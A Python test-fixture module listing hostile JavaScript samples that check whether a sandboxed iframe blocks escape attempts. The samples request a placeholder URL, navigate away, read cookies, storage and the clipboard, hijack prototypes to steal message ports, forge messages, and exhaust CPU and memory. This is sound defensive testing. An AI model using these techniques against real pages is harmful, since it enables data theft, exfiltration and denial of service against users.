"""Programs of a hostile sample. `OUT` is a URL that must never be requested.

An attempt calls `escaped(what)` if it gets access to something; if it throws, it was blocked.
"""

from __future__ import annotations

_ELEMENT = "const add = (tag, values) => document.body.append(Object.assign("
ADD = f"{_ELEMENT}document.createElement(tag), values));"
"""Adds an element to the document."""

REQUESTS = {
    "fetch": "await fetch(OUT);",
    "fetch-no-cors": "await fetch(OUT, { mode: 'no-cors', method: 'POST', body: 'x' });",
    "fetch-keepalive": "await fetch(OUT, { keepalive: true });",
    "fetch-later": "fetchLater(OUT, { activateAfter: 0 });",
    "xhr": """const request = new XMLHttpRequest();
      request.open('GET', OUT);
      request.send();""",
    "xhr-synchronous": """const request = new XMLHttpRequest();
      request.open('GET', OUT, false);
      request.send();""",
    "beacon": "navigator.sendBeacon(OUT, 'x');",
    "event-source": "new EventSource(OUT);",
    "web-socket": "new WebSocket(OUT.replace('http', 'ws'));",
    "image": "new Image().src = OUT;",
    "image-set": "add('img', { srcset: `${OUT} 2x` });",
    "picture-button": "add('input', { type: 'image', src: OUT });",
    "video": "add('video', { src: OUT, preload: 'auto' });",
    "poster": "add('video', { poster: OUT });",
    "sound": "new Audio(OUT).load();",
    "object": "add('object', { data: OUT });",
    "embedded": "add('embed', { src: OUT });",
    "svg-image": "add('div', { innerHTML: `<svg><image href='${OUT}'/></svg>` });",
    "style-import": "add('style', { textContent: `@import '${OUT}';` });",
    "style-background": "add('style', { textContent: `body { background: url('${OUT}') }` });",
    "style-sheet": "add('link', { rel: 'stylesheet', href: OUT });",
    "font": """const font = new FontFace('Stolen', `url('${OUT}')`);
      document.fonts.add(font);
      await font.load();""",
    "script": "add('script', { src: OUT });",
    "module": "add('script', { type: 'module', src: OUT });",
    "import": "await import(OUT);",
    "real-import": "await new Function('address', 'return import(address)')(OUT);",
    "module-preload": "add('link', { rel: 'modulepreload', href: OUT });",
    "preload": "add('link', { rel: 'preload', as: 'image', href: OUT });",
    "prefetch": "add('link', { rel: 'prefetch', href: OUT });",
    "frame": "add('iframe', { src: OUT });",
    "frame-that-moves": """add('iframe', {});
      document.body.lastChild.contentWindow.location = OUT;""",
    "frame-with-text": "add('iframe', { srcdoc: `<img src='${OUT}'>` });",
    "frame-that-refreshes": """add('iframe', {
        srcdoc: `<meta http-equiv="refresh" content="0;url=${OUT}">`,
      });""",
    "worker": "new Worker(OUT);",
    "worker-from-text": """new Worker(
        URL.createObjectURL(new Blob([`fetch('${OUT}')`], { type: 'text/javascript' })),
      );""",
    "shared-worker": "new SharedWorker(OUT);",
    "paint-worklet": "await CSS.paintWorklet.addModule(OUT);",
    "audio-worklet": "await new AudioContext().audioWorklet.addModule(OUT);",
    "link-ping": """add('a', { href: '#', ping: OUT });
      document.querySelector('a[ping]').click();""",
    "stun": """const peer = new RTCPeerConnection({
        iceServers: [{ urls: `stun:${new URL(OUT).host}` }],
      });
      peer.createDataChannel('');
      await peer.setLocalDescription(await peer.createOffer());""",
    "turn": """const peer = new webkitRTCPeerConnection({
        iceServers: [{
          urls: `turn:${new URL(OUT).host}?transport=tcp`, username: 'a', credential: 'b',
        }],
      });
      peer.createDataChannel('');
      await peer.setLocalDescription(await peer.createOffer());""",
    "looser-policy": """add('meta', {
        httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${OUT}`,
      });
      new Image().src = 'data:image/png,';""",
    "written-document": """document.write(`<img src="${OUT}">`);
      document.close();""",
}
"""Ways to send a request without navigating."""

LAST = ("looser-policy", "written-document")
"""The requests that would stop the others."""

TURNS = "for (let i = 0; i < 99; i += 1) await new Promise((resolve) => setTimeout(resolve));"
"""Waits until earlier requests have been answered or blocked."""

DEPARTURES = {
    "location": "location = OUT;",
    "location-href": "location.href = OUT;",
    "assign": "location.assign(OUT);",
    "replace": "location.replace(OUT);",
    "link": """add('a', { href: OUT });
      document.querySelector('a').click();""",
    "link-in-parent": """add('a', { href: OUT, target: '_parent' });
      document.querySelector('a').click();""",
    "link-in-top": """add('a', { href: OUT, target: '_top' });
      document.querySelector('a').click();""",
    "link-in-new": """add('a', { href: OUT, target: '_blank', rel: 'opener' });
      document.querySelector('a').click();""",
    "download": """add('a', { href: OUT, download: 'x' });
      document.querySelector('a').click();""",
    "open": "if (open(OUT)) escaped('a window');",
    "open-self": "open(OUT, '_self');",
    "open-parent": "open(OUT, '_parent');",
    "open-top": "open(OUT, '_top');",
    "top": "top.location = OUT;",
    "parent": "parent.location.replace(OUT);",
    "first-frame": "top.frames[0].location = OUT;",
    "form": """add('form', { action: OUT, method: 'post' });
      document.querySelector('form').submit();""",
    "form-in-top": """add('form', { action: OUT, target: '_top' });
      document.querySelector('form').requestSubmit();""",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${OUT}` });",
    "navigation": "await navigation.navigate(OUT).committed;",
    "text-address": "location = `data:text/html,<img src='${OUT}'>`;",
    "blob-address": """location = URL.createObjectURL(
        new Blob([`<img src='${OUT}'>`], { type: 'text/html' }),
      );""",
    "script-address": "location = `javascript:fetch('${OUT}')`;",
    "mail": "location = `mailto:${OUT}`;",
    "after-writing": """document.open();
      document.write('<p>new</p>');
      document.close();
      location = OUT;""",
    "after-tampering": """Event.prototype.preventDefault = () => {};
      addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true);
      location = OUT;""",
    "many-times": "for (let i = 0; i < 100; i += 1) location = `${OUT}/${i}`;",
    "reload": "if (!window.name) { window.name = 'again'; location.reload(); }",
    "back": "history.back();",
    "far-back": "history.go(-history.length);",
    "new-address": "history.pushState(null, '', '/escape');",
    "close": """parent.close();
      top.close();
      close();""",
}
"""Ways to navigate the frame, or the page with it."""

REACHES = {
    "parent-document": "escaped(parent.document.title);",
    "top-document": "escaped(top.document.body.innerHTML);",
    "frame-element": "if (frameElement) escaped('its own element');",
    "parent-storage": "escaped(parent.localStorage.length);",
    "top-storage": "escaped(top.sessionStorage.length);",
    "parent-function": "parent.eval('document.title = 1'); escaped('a call');",
    "sibling-storage": """for (let i = 0; i < top.length; i += 1) {
        if (top[i] === self || top[i] === parent) continue;
        escaped(top[i].localStorage);
      }""",
    "opener": "if (opener || parent.opener || top.opener) escaped('an opener');",
    "cookie": "escaped(document.cookie);",
    "new-cookie": "document.cookie = 'stolen=1; path=/'; escaped('a cookie');",
    "cookie-store": "escaped(JSON.stringify(await cookieStore.getAll()));",
    "site-entries": """if (localStorage.getItem('site-preferences') !== null) escaped('them');""",
    "frame-storage": """add('iframe', {});
      const { localStorage: stored } = document.querySelector('iframe').contentWindow;
      if (stored.getItem('site-preferences') !== null) escaped('them');""",
    "real-storage": """const find = Object.getOwnPropertyDescriptor;
      const { get } = find(Window.prototype, 'localStorage') ?? find(window, 'localStorage');
      if (get.call(window).getItem('site-preferences') !== null) escaped('them');""",
    "databases": """await new Promise((resolve, reject) => {
        const request = indexedDB.open('stolen');
        request.onsuccess = resolve;
        request.onerror = reject;
      });
      escaped('a database');""",
    "caches": "await caches.open('stolen'); escaped('a cache');",
    "own-files": "await navigator.storage.getDirectory(); escaped('a folder');",
    "storage-access": "await document.requestStorageAccess(); escaped('access');",
    "locks": "await navigator.locks.request('site', () => escaped('a lock'));",
    "service-worker": "await navigator.serviceWorker.register('/trial.js'); escaped('a worker');",
    "channel": "new BroadcastChannel('site').postMessage('forged');",
    "clipboard": """focus();
      await navigator.clipboard.writeText('stolen');
      escaped('the clipboard');""",
    "read-clipboard": "focus(); escaped(await navigator.clipboard.readText());",
    "copy": """document.body.append('stolen');
      getSelection().selectAllChildren(document.body);
      if (document.execCommand('copy')) escaped('the clipboard');""",
    "dialogs": """alert('1');
      confirm('2');
      prompt('3');
      print();""",
    "notification": "if ((await Notification.requestPermission()) === 'granted') escaped('it');",
    "full-screen": "await document.documentElement.requestFullscreen(); escaped('the screen');",
    "pointer": """await document.body.requestPointerLock();
      if (document.pointerLockElement) escaped('the pointer');""",
    "place": """await new Promise((resolve, reject) => {
        navigator.geolocation.getCurrentPosition(resolve, reject);
      });
      escaped('a place');""",
    "camera": "await navigator.mediaDevices.getUserMedia({ video: true }); escaped('a camera');",
    "payment": """await new PaymentRequest([{ supportedMethods: 'https://other.example/pay' }], {
        total: { label: '', amount: { currency: 'EUR', value: '1' } },
      }).show();""",
    "wake-lock": "await navigator.wakeLock.request('screen'); escaped('a lock');",
    "looser-sandbox": """add('iframe', { sandbox: 'allow-scripts allow-same-origin' });
      const { origin } = document.querySelector('iframe[sandbox]').contentWindow;
      if (origin !== undefined && origin !== 'null') escaped(origin);""",
    "running-frame": """top.stolen = 0;
      add('iframe', { srcdoc: '<script>top.postMessage("forged", "*")</' + 'script>' });""",
    "origin": "if (self.origin !== 'null') escaped(self.origin);",
}
"""Ways to access data of the page, the site or the user."""

LOOPS = {
    "callbacks": "Array.prototype.find.call({ length: 2 ** 40 }, () => false);",
    "messages": "for (let i = 0; ; i += 1) if (i % 16 === 0) top.postMessage('x', '*');",
    "storage": "for (let i = 0; ; i += 1) localStorage.setItem('key', i);",
}
"""Infinite loops that guards detect; live/src/frame/guard.browser.test.ts has more."""

NATIVE_LOOPS = {
    "function": "new Function('for (;;);')();",
    "expression": "/^(a+)+$/.test(`${'a'.repeat(50)}b`);",
}
"""Infinite loops in native code, where there can't be a guard."""

MEMORY = {
    "numbers": "for (;;) hold(new Array(125_000).fill(1.5));",
    "objects": "for (;;) hold(Array.from({ length: 25_000 }, (_, i) => ({ i })));",
    "buffers": "for (;;) hold(new Uint8Array(1_000_000).fill(1));",
    "numbers-over-time": "setInterval(() => hold(new Array(125_000).fill(1.5)), 1);",
    "buffers-over-time": "setInterval(() => hold(new Uint8Array(1_000_000).fill(1)), 1);",
    "messages-over-time": """const again = () => {
        hold(new Array(125_000).fill(1.5));
        postMessage('', '*');
      };
      addEventListener('message', again);
      again();""",
}
"""Ways to use up memory, a megabyte at a time."""

HOLD = """const held = [];
  const hold = (megabyte) => {
    held.push(megabyte);
    if (held.length % 16 === 0) console.log(held.length);
    if (held.length > 2000) throw new Error('it was not stopped');
  };"""
"""Keeps a megabyte and prints how many there are."""

THEFTS = {
    "event": "steal(event?.ports?.[0]); steal(event?.target); steal(event?.currentTarget);",
    "event-after-message": """new MutationObserver(() => { steal(event?.target); })
        .observe(document.documentElement, { attributes: true });
      addEventListener('storage', () => queueMicrotask(() => steal(event?.target)));
      addEventListener('message', ({ ports }) => steal(ports[0]));""",
    "caller": """const look = new Function('steal', `return function look() {
        try {
          for (let one = look, i = 0; one && i < 20; one = one.caller, i += 1) {
            for (const value of one.arguments ?? []) steal(value);
          }
        } catch {}
        return 'text';
      }`)(steal);
      const probe = { toString: look, toJSON: look };
      Object.defineProperty(probe, 'x', { enumerable: true, get: look });
      console.log(probe);
      localStorage.setItem(probe, probe);""",
    "every-function": """const real = { apply: Reflect.apply, define: Object.defineProperty };
      let isBusy = false;
      const watch = (native) => function (...values) {
        if (!isBusy) {
          isBusy = true;
          steal(this);
          for (let i = 0; i < values.length; i += 1) steal(values[i]);
          isBusy = false;
        }
        return new.target
          ? Reflect.construct(native, values, new.target)
          : real.apply(native, this, values);
      };
      for (const owner of Object.getOwnPropertyNames(window)) {
        const type = Object.getOwnPropertyDescriptor(window, owner).value;
        if (typeof type !== 'function' || !type.prototype) continue;
        for (const name of Reflect.ownKeys(type.prototype)) {
          const found = Object.getOwnPropertyDescriptor(type.prototype, name);
          if (name === 'constructor' || !found.configurable) continue;
          const { value, get, set } = found;
          if (typeof value === 'function') found.value = watch(value);
          if (get) found.get = watch(get);
          if (set) found.set = watch(set);
          real.define(type.prototype, name, found);
        }
      }""",
    "every-property": """const names = ['type', 'port', 'ports', 'data', 'target', 'text', '0'];
      for (const name of names) {
        Object.defineProperty(Object.prototype, name, {
          configurable: true,
          get() { steal(this); return undefined; },
          set(value) {
            steal(this);
            steal(value);
            Object.defineProperty(this, name, {
              value, writable: true, enumerable: true, configurable: true,
            });
          },
        });
      }""",
    "iterators-and-promises": """Array.prototype[Symbol.iterator] = function* () {
        for (let i = 0; i < this.length; i += 1) { steal(this[i]); yield this[i]; }
      };
      Promise.prototype.then = new Proxy(Promise.prototype.then, {
        apply(target, self, values) {
          steal(self);
          values.forEach(steal);
          return Reflect.apply(target, self, values);
        },
      });""",
}
"""Ways to get the port over which the frame sends messages to the page."""

STEAL = """const Port = MessagePort;
  const send = Reflect.apply.bind(null, Port.prototype.postMessage);
  const forged = new Set();
  const steal = (value) => {
    if (!(value instanceof Port) || forged.has(value)) return;
    forged.add(value);
    send(value, [{ type: 'line', level: 'log', text: 'FORGED' }]);
  };"""
"""Sends a forged message through any port."""

USE = """
  console.log('said', { a: [1, new Map([[1, 2]])] });
  console.error(new Error('said'));
  localStorage.setItem('key', '1');
  sessionStorage.setItem('key', '1');
  localStorage.removeItem('key');
  document.body.append('shown');
  await { then: (resolve) => setTimeout?.(resolve) ?? resolve() };"""
"""Makes the frame send a message of every type."""

FORGERIES = """const forged = {
    type: 'start',
    program: {
      entry: 'forged.js',
      modules: { 'forged.js': { code: 'console.log("FORGED")', isAsync: false } },
    },
    entries: [], language: 'en-US', colorMode: 'light',
  };
  const windows = [self, parent, top];
  for (let i = 0; i < top.length; i += 1) {
    windows.push(top[i]);
    for (let j = 0; j < top[i].length; j += 1) windows.push(top[i][j]);
  }
  for (const target of windows) {
    target.postMessage({ type: 'line', level: 'log', text: 'FORGED' }, '*');
    target.postMessage({ type: 'stored', entries: null }, '*');
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => data.text === 'FORGED' && console.log('ESCAPED into another');
    target.postMessage(forged, '*', [port2]);
  }
"""
FORGERIES += TURNS
"""Messages to every window, posing as the page or as the frame."""
